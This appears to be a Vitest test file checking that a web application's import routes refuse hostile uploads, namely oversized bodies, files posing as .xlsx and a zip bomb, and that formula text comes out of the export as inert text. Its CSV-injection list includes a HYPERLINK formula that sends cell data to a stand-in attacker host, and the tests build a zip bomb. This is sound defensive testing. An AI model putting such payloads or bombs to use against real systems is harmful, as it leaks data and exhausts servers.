import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../test/app.js';
import { buildAgencyTree } from '../test/factories.js';
import { rowWatch } from '../test/rows.js';
import { bombSheet, xlsxWith } from '../test/zip.js';

// Issue #13, hostile uploads: bodies over the limit, files that are not what they claim, a zip bomb
// dressed as .xlsx, and spreadsheet formulas in every imported cell. Each is refused with a problem
// and writes nothing, or (formulas) comes back out of the export as inert text.

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const LIMIT = 256 * 1024;

let t: TestApp;
let tree: Awaited<ReturnType<typeof buildAgencyTree>>;

beforeAll(async () => {
  // A small upload limit, so an oversized body is cheap to send; the bomb still fits under it.
  t = await buildTestApp({ uploadLimit: LIMIT });
  tree = await buildAgencyTree(t);
}, 120_000);
afterAll(() => t.close());

/** The routes that read an uploaded spreadsheet. */
const SPREADSHEET_ROUTES = [
  '/api/v1/imports/org',
  '/api/v1/imports/staff',
  '/api/v1/systems/import',
  '/api/v1/selfcheck/catalogs/import',
];
/** Every upload route whose limit is the configured UPLOAD_LIMIT_BYTES and needs no id. */
const UPLOAD_ROUTES: [url: string, type: string][] = [
  ...SPREADSHEET_ROUTES.map((u): [string, string] => [u, XLSX]),
  ['/api/v1/findings/import', 'text/csv'],
  ['/api/v1/advisories/import', 'application/json'],
  ['/api/v1/training/images', 'image/png'],
];

const send = (url: string, payload: Buffer, type: string) =>
  tree.admin.client.request({ method: 'POST', url, payload, headers: { 'content-type': type } });

function expectRefused(
  res: { statusCode: number; headers: Record<string, unknown>; body: string },
  label: string,
) {
  expect(res.statusCode, `${label}: ${res.body.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
  expect(res.statusCode, `${label}: ${res.body.slice(0, 300)}`).toBeLessThan(500);
  expect(String(res.headers['content-type']), label).toContain('application/problem+json');
  const body = JSON.parse(res.body) as { code: string; title: string };
  expect(body.code, label).toMatch(/^[a-z_]+$/);
  expect(body.title, label).toBeTruthy();
  return body;
}

describe('hostile uploads are refused and write nothing', () => {
  it('a body over the upload limit is a 413 on every upload route', async () => {
    const watch = await rowWatch(t.sys.db);
    const big = Buffer.alloc(LIMIT + 1, 0x41);
    for (const [url, type] of UPLOAD_ROUTES) {
      expect(expectRefused(await send(url, big, type), url).code).toBe('payload_too_large');
    }
    expect(await watch.changes()).toEqual([]);
  });

  it('files that are not what they claim: a program, a PNG and damaged ZIP data named .xlsx', async () => {
    const watch = await rowWatch(t.sys.db);
    const exe = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(2000, 0x90)]);
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    const brokenZip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(500, 0xff)]);
    for (const url of SPREADSHEET_ROUTES) {
      for (const [name, file] of Object.entries({ exe, png, brokenZip })) {
        expectRefused(await send(url, file, XLSX), `${url} ${name}`);
      }
    }
    expectRefused(await send('/api/v1/training/images?filename=a.png', exe, 'image/png'), 'exe as png');
    expect(await watch.changes()).toEqual([]);
  });

  it('a zip bomb disguised as .xlsx is refused before it is inflated, even when it lies about its size', async () => {
    const watch = await rowWatch(t.sys.db);
    // 120 MB of worksheet (over the 100 MB allowance) from a ~120 KB upload; the lying one declares 1 KB.
    const sheet = await bombSheet(120);
    const honest = xlsxWith(sheet);
    const lying = xlsxWith(sheet, { declaredSize: 1024 });
    expect(honest.length).toBeLessThan(LIMIT);
    for (const url of SPREADSHEET_ROUTES) {
      for (const [name, bomb] of Object.entries({ honest, lying })) {
        const started = performance.now();
        const body = expectRefused(await send(url, bomb, XLSX), `${url} ${name} bomb`);
        expect(JSON.stringify(body), `${url} ${name}`).toContain('100 MB');
        // Inflating it (what the reader did before) took tens of seconds and hundreds of MB.
        expect(performance.now() - started, `${url} ${name}`).toBeLessThan(5_000);
      }
    }
    expect(await watch.changes()).toEqual([]);
  }, 120_000);
});

describe('formulas in every imported cell come out of the export inert', () => {
  // OWASP "CSV injection": text starting with = + - @ tab or CR is a formula to a spreadsheet.
  const STARTS = ['=1+1', '+SUM(A1:A9)', '-2+3', '@SUM(1)', '=HYPERLINK("http://evil.example/?"&A1)'];

  it('ledger: imported from .xlsx with formula text in every free-text cell, exported without a live formula', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('情報システム');
    ws.addRow([
      'システムID',
      'システム名',
      '目的',
      '所管課室コード',
      '保守・委託先',
      'ライフサイクル',
      'インターネット接続',
    ]);
    STARTS.forEach((f, i) => {
      ws.addRow([`FX-${i}`, f, `${f} 目的`, tree.divA1.code, `${f}社`, '運用', 'はい']);
    });
    // A cell holding a real formula is imported as its text result, never as a formula.
    ws.addRow([
      'FX-F',
      { formula: 'CONCATENATE("=", "cmd")', result: '=cmd' },
      '式',
      tree.divA1.code,
      '',
      '運用',
      'いいえ',
    ]);
    const imported = await send('/api/v1/systems/import', Buffer.from(await wb.xlsx.writeBuffer()), XLSX);
    expect(imported.statusCode, imported.body).toBe(200);

    const res = await tree.admin.client.get('/api/v1/systems/export');
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    const out = new ExcelJS.Workbook();
    await out.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const texts: string[] = [];
    const formulas: string[] = [];
    for (const sheet of out.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.formula) formulas.push(cell.formula);
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      );
    }
    expect(formulas).toEqual([]);
    expect(texts.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
    for (const f of STARTS) expect(texts).toContain(`'${f}`);
    expect(texts).toContain("'=cmd");
  });
});
